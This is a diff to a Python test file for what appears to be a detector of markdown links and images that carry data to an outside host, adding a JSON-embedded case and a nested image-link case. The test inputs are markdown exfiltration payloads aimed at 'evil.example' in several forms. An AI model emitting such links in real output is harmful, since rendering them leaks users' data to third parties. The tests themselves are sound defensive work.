@@ -53,15 +53,13 @@ def test_text_pictures_documents_digests_and_rulers_are_none(text: bytes) -> Non
     assert not holds_blob(text)
 
 
-def found(text: str) -> dict[str, tuple[bool, bool]]:
-    return {link.host: (link.image, link.carries) for link in links_in(text.encode())}
-
-
 @pytest.mark.parametrize(
     ("text", "image"),
     [
         (f"![x](https://evil.example/p.png?d={DATA})", True),
         (f"[x](https://evil.example/p?d={DATA})", False),
+        (f'{{"content":[{{"text":"![x](https://evil.example/p?d={DATA})"}}]}}', True),
+        (f"[![x](https://evil.example/p?d={DATA})](https://evil.example/a)", True),
         (f"![x][img]\n\n[img]: https://evil.example/p.png?d={DATA}", True),
         (f"![img]\n\n[img]: <https://evil.example/p.png?d={DATA}>", True),
         (f"[x][r]\n\n[r]: https://evil.example/{DATA}", False),
@@ -74,7 +72,8 @@ def found(text: str) -> dict[str, tuple[bool, bool]]:
     ],
 )
 def test_every_way_to_write_a_link_that_carries_data_is_read(text: str, image: bool) -> None:
-    assert found(text) == {"evil.example": (image, True)}
+    links = [link for link in links_in(text.encode()) if link.carries]
+    assert [(link.host, link.image) for link in links] == [("evil.example", image)]
 
 
 def test_data_in_a_label_of_the_host_is_seen() -> None:
